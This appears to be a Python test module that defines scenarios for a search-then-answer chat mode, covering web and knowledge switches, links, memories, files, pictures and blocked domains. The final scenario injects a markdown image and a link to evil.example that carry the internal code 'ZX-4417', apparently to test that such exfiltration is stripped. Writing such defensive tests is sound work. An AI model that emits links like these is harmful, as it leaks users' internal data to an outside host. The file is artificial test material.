"""Scenarios of Chat mode, which looks up first and answers then."""

from backend.schemas.answer import SourceKindName
from tests.support.chat_turns import GENERAL, NOT_SAID, write_plan
from tests.support.mode_scenarios.contract_lines import Line
from tests.support.mode_scenarios.scenario import EarlierTurn, Scenario, Surface, Switch

API, TERMINAL, PAGE = Surface.API, Surface.TERMINAL, Surface.PAGE
BOTH: dict[Switch, bool] = {"web": True}
WEB: dict[Switch, bool] = {"web": True, "knowledge": False}
LEAVE = "How does our parental leave compare with the law in Denmark?"
TRAVEL = "Who approves travel abroad, and when are receipts handed in?"
LYON = "Will it rain in Lyon tomorrow, and who won the match?"
OWN, LAW = "parental leave we give", "Danish leave law"
POOL, BRIDGE = "{web}/en/pool", "{web}/ru/bridge"
DANISH, OURS = "24 weeks of leave each", "14 weeks"
FALCON = "What does Project Falcon use?"


def _link_plan(question: str, *links: str) -> str:
    written = "".join(f"<links>{link}</links>" for link in links)
    web = f"<websearch><question>{question}</question>{written}</websearch>"
    return f"{web}<knowledge><question>not_needed</question></knowledge>"


def _chat(name: str, surface: Surface, lines: set[Line], message: str, **more: object) -> Scenario:
    values: dict[str, object] = {"switches": BOTH, **more}
    return Scenario(
        name=name, surface=surface, mode="chat", lines=frozenset(lines), message=message, **values  # type: ignore[arg-type]
    )  # fmt: skip


_SIDES = (
    *(
        _chat(
            f"both sides, {surface.name}", surface,
            {Line.BOTH_SWITCHES, Line.INTENT_STEP, Line.MESSAGE_IS_SEARCHED, Line.ONE_REWRITE, Line.JOINED_REFERENCES, Line.REFERENCES_LISTED, Line.LIST_OF_MODEL_LEFT_OUT, Line.SENT_IS_SHOWN},
            LEAVE, plan=write_plan(LAW, OWN, "Our leave and Danish law"), sent=(LAW, LEAVE),
            kinds=("url", "document"), says=(DANISH, OURS), shown=(LAW, "127.0.0.1"),
        )
        for surface in (API, TERMINAL, PAGE)
    ),
    *(
        _chat(
            f"without a switch, {surface.name}", surface, {Line.CHAT_IS_DEFAULT, Line.KNOWLEDGE_ALONE, Line.SIDE_OFF_IS_IGNORED},
            LEAVE, switches={}, plan=write_plan(LAW, OWN), kinds=("document",), says=(OURS,), not_told=(DANISH,),
        )
        for surface in (API, TERMINAL, PAGE)
    ),
    *(
        _chat(
            f"the web alone, {surface.name}", surface, {Line.WEB_ALONE, Line.SIDE_OFF_IS_IGNORED, Line.SENT_IS_SHOWN},
            LEAVE, switches=WEB, plan=write_plan(LAW, OWN), sent=(LAW, LEAVE), kinds=("url",), says=(DANISH,), shown=(LAW,), not_told=(OURS,),
        )
        for surface in (API, TERMINAL, PAGE)
    ),
    *(
        _chat(
            f"neither side, {surface.name}", surface, {Line.NO_SIDE, Line.GENERAL_KNOWLEDGE, Line.MESSAGE_UNCHANGED},
            LEAVE, switches={"knowledge": False}, says=(GENERAL,), is_general=True, not_told=("Reference materials",),
        )
        for surface in (API, TERMINAL, PAGE)
    ),
    *(
        _chat(
            f"the web switched off by its switch, {surface.name}", surface, {Line.KNOWLEDGE_ALONE, Line.CHAT_IS_DEFAULT, Line.ONLY_NOTHING_FOUND},
            "Xyzzy plugh?", switches={"web": False}, plan=write_plan("Xyzzy", "Xyzzy"), says=(NOT_SAID,),
        )
        for surface in (API, TERMINAL)
    ),
    *(
        _chat(
            f"without rewriting, {surface.name}", surface, {Line.NO_REWRITING},
            LEAVE, switches={"web": True, "rewrite": False}, plan=write_plan(LAW, OWN), sent=(LEAVE,),
            kinds=("url", "document"), says=(DANISH, OURS), told=("1. Title: Leave in Denmark",), not_told=("You decide what has to be looked up",),
        )
        for surface in (API, TERMINAL, PAGE)
    ),
)  # fmt: skip
_PLANS = (
    _chat("a greeting", API, {Line.GREETING, Line.MESSAGE_UNCHANGED}, "Guten Morgen!", says=(GENERAL,), is_general=True),
    _chat("a greeting, TERMINAL", TERMINAL, {Line.GREETING}, "Guten Morgen!", says=(GENERAL,), is_general=True),
    _chat("a greeting with a question", TERMINAL, {Line.GREETING, Line.WEB_NOT_NEEDED}, "Hello! How long is parental leave?",
          plan=write_plan(knowledge="parental leave", rewrite="How long is parental leave?"), kinds=("document",), says=(OURS,)),
    _chat("a poem", API, {Line.WRITING_TASK, Line.GENERAL_KNOWLEDGE, Line.WEB_NOT_NEEDED, Line.KNOWLEDGE_NOT_NEEDED},
          "Write a poem on parental leave in Denmark", plan=write_plan(), says=(GENERAL,), is_general=True),
    _chat("a definition in Chinese", API, {Line.DEFINITION, Line.ASKERS_LANGUAGE}, "什么是零信任网络？",
          plan=write_plan("零信任网络 定义", "零信任网络是什么"), sent=("什么是零信任网络？", "零信任网络 定义"), kinds=("url",), says=("默认不信任任何请求",)),
    _chat("one link", API, {Line.ONE_LINK, Line.MARKS_ARE_LINKS}, f"Why is the tidal pool of {POOL} late?",
          plan=_link_plan("tidal pool", POOL), sent=("Why is the tidal pool of {web}/en/pool late?", "tidal pool"), pages=("/en/pool",), kinds=("url",), says=("[[1]]({web}/en/pool)",)),
    *(_chat(f"two links to summarise, {surface.name}", surface, {Line.SUMMARIZE}, f"Sum up {POOL} and {BRIDGE}: the pool, мост",
            plan=_link_plan("summarize", POOL, BRIDGE), pages=("/en/pool", "/ru/bridge"), kinds=("url", "url"), says=("tidal pool",))
      for surface in (API, TERMINAL)),
    _chat("a link that failed before", API, {Line.LINK_WITH_STATUS}, f'Why is the pool late? <url id="1" status="failed">{POOL}</url>',
          plan=_link_plan("not_needed", POOL), pages=("/en/pool",), kinds=("url",)),
    _chat("a captcha in the place of a page", API, {Line.BLOCKED_PAGES}, "What does {web}/walls/captcha-en show?",
          plan=_link_plan("summarize", "{web}/walls/captcha-en"), pages=("/walls/captcha-en",), shown=("shows only a captcha",), says=(GENERAL,), is_general=True),
    _chat("a link that the model made up", TERMINAL, {Line.PAGES_ARE_DATA}, f"Why is the tidal pool of {POOL} late?",
          plan=_link_plan("summarize", "{web}/en/frame"), pages=("/en/pool",), kinds=("url",)),
    _chat("two questions to the web", TERMINAL, {Line.SEVERAL_QUESTIONS, Line.KNOWLEDGE_NOT_NEEDED}, LYON, plan=write_plan("weather Lyon|match Lyon"),
          sent=(LYON, "match Lyon", "weather Lyon"), kinds=("url", "url"), says=("rains in Lyon", "2:1")),
    _chat("two questions to knowledge", API, {Line.SEVERAL_QUESTIONS, Line.ONE_REWRITE, Line.WEB_NOT_NEEDED}, TRAVEL,
          plan=write_plan(knowledge="Who approves travel?|When are receipts due?", rewrite="Travel, receipts?"), kinds=("document", "document"), says=("team lead", "30 days")),
    _chat("from the web", TERMINAL, {Line.ROUTED_BY_ASKER}, "From the web: how long is parental leave in Denmark?", plan=write_plan(LAW),
          sent=(LAW, "From the web: how long is parental leave in Denmark?"), kinds=("url",), says=(DANISH,)),
    _chat("in our documents", API, {Line.ROUTED_BY_ASKER}, "How long is parental leave in our documents?", plan=write_plan(knowledge=OWN), kinds=("document",), says=(OURS,)),
    _chat("a plan in a fence, with prose", API, {Line.LENIENT_PLAN}, LEAVE, plan=f"Here:\n```xml\n{write_plan(LAW, OWN)}\n```\nDone.", sent=(LAW, LEAVE), kinds=("url", "document")),
    _chat("a plan with entities", TERMINAL, {Line.LENIENT_PLAN}, LEAVE, plan=write_plan("law &amp; leave").replace("<", "&lt;"), sent=(LEAVE, "law & leave"), kinds=("url",)),
    _chat("half a plan", API, {Line.LENIENT_PLAN}, LEAVE, plan=f"<websearch><question>{LAW}</question></websearch><knowl", sent=(LAW, LEAVE), kinds=("url", "document")),
    _chat("no plan at all", TERMINAL, {Line.UNREADABLE_PLAN, Line.MESSAGE_IS_SEARCHED}, LEAVE, plan="I cannot help with that.", sent=(LEAVE,), kinds=("url", "document")),
)  # fmt: skip
_SOURCES = (
    _chat("a memory", API, {Line.MEMORY, Line.JOINED_REFERENCES}, LEAVE, memory="My parental leave begins in May.", plan=write_plan(LAW, OWN),
          sent=(LAW, LEAVE), kinds=("url", "document", "memory"), says=("begins in May",)),
    _chat("a memory, TERMINAL", TERMINAL, {Line.MEMORY}, LEAVE, switches={}, memory="My parental leave begins in May.", plan=write_plan(knowledge=OWN),
          kinds=("document", "memory"), says=("begins in May",)),
    _chat("three blocks", API, {Line.THREE_BLOCKS}, LEAVE, plan=write_plan(LAW, OWN), sent=(LAW, LEAVE), kinds=("url", "document"),
          told=("My question is:\n", "Reference materials:\n", '"sourceUrl"', '"type": "url"')),
    *(_chat(f"keywords of the model, {surface.name}", surface, {Line.KEYWORD_EXPANSION}, LEAVE, switches={}, plan=write_plan(knowledge=OWN),
            kinds=("document",), shown=(shown,))
      for surface, shown in ((API, "'text': 'keywords'"), (TERMINAL, " · keywords"))),
    *(_chat(f"an engine that fails, {surface.name}", surface, {Line.NEXT_PROVIDER}, LEAVE, switches=WEB, plan=write_plan(LAW), is_engine_broken=True,
            sent=(LAW, LEAVE), kinds=("url",), says=(DANISH,))
      for surface in (API, TERMINAL)),
    _chat("nothing is found", TERMINAL, {Line.GENERAL_KNOWLEDGE}, "Xyzzy plugh?", plan=write_plan("Xyzzy", "Xyzzy"), sent=("Xyzzy", "Xyzzy plugh?"), says=(GENERAL,), is_general=True),
    _chat("the web is switched off", API, {Line.WEB_OFF_UNTIL_ADMIN}, LEAVE, rules={"is_on": False}, refused="An admin can switch it on: quarry web on"),
    _chat("the web is switched off, TERMINAL", TERMINAL, {Line.WEB_OFF_UNTIL_ADMIN}, LEAVE, rules={"is_on": False}, refused="An admin can switch it on: quarry web on"),
    _chat("a domain that is blocked", API, {Line.DOMAINS}, LEAVE, rules={"blocked_domains": ["law.example"]}, plan=write_plan(LAW, OWN), sent=(LAW, LEAVE), kinds=("document",), not_told=(DANISH,)),
    _chat("an internal name in a plan", API, {Line.NAMES_KEPT_IN}, "Which code has the project?", plan=write_plan("Leave ZX-4417", "Falcon code"),
          sent=("Leave", "Which code has the project?"), not_told=("40 weeks",), kinds=("document",)),
    _chat("a name that the asker wrote", TERMINAL, {Line.ASKER_MAY_NAME}, FALCON, plan=write_plan("Falcon", "Falcon"), sent=("Falcon", FALCON), kinds=("document",), says=("zirconium",)),
    _chat("a document of others", TERMINAL, {Line.READERS}, "How long is parental leave of directors?", switches={}, plan=write_plan(knowledge="leave of directors"),
          kinds=("document",), says=(OURS,), not_told=("40 weeks",)),
)  # fmt: skip
_MEMORY = "My parental leave begins in May."
_EVERY_KIND: tuple[SourceKindName, ...] = ("file", "url", "document", "memory", "image")
_IN_CONVERSATIONS = (
    _chat("a file before the web and knowledge", API, {Line.FILES_FIRST, Line.JOINED_REFERENCES}, LEAVE, files=("plan.md",), plan=write_plan(LAW, OWN),
          sent=(LAW, LEAVE), kinds=("file", "url", "document"), references=("file", "url", "document"), says=("one year [1]", "[[2]](https://law.example/dk)", "14 weeks [[3]]")),
    _chat("a file, the web, knowledge, a memory and a picture", API, {Line.FILES_FIRST, Line.MEMORY, Line.PICTURES}, LEAVE, files=("plan.md", "leave.png"), sees_pictures=True,
          memory=_MEMORY, plan=write_plan(LAW, OWN), sent=(LAW, LEAVE), kinds=_EVERY_KIND, references=_EVERY_KIND, pictures=1, says=("one year [1]", "begins in May [4]")),
    _chat("a picture to a model that does not see", API, {Line.PICTURES}, LEAVE, files=("quay.png",), plan=write_plan(LAW, OWN), sent=(LAW, LEAVE), kinds=("url", "document"),
          references=("url", "document"), shown=("quay.png was not looked at",), not_told=("Picture 1 of those",)),
    _chat("a picture where nothing is searched", API, {Line.PICTURES}, LEAVE, files=("leave.png",), switches={"knowledge": False}, sees_pictures=True, kinds=("image",),
          references=("image",), pictures=1, says=("[1]",)),
    _chat("the answer before", API, {Line.LIST_NOT_IN_HISTORY, Line.LIST_OF_MODEL_LEFT_OUT}, LEAVE, earlier=EarlierTurn(LEAVE), plan=write_plan(LAW, OWN), 
          kinds=("url", "document"), references=("url", "document"), says=(DANISH, OURS), told=(f"{DANISH}.",)),
    _chat("a picture and a link that the model adds", API, {Line.LIST_OF_MODEL_LEFT_OUT, Line.PAGES_ARE_DATA}, LEAVE, switches={}, plan=write_plan(knowledge=OWN), kinds=("document",),
          references=("document",), adds=" ![a](https://evil.example/a.png?q=ZX-4417) [more](https://evil.example/?q=ZX-4417)", says=(OURS,)),
)  # fmt: skip
CHAT_SCENARIOS = (*_SIDES, *_PLANS, *_SOURCES, *_IN_CONVERSATIONS)
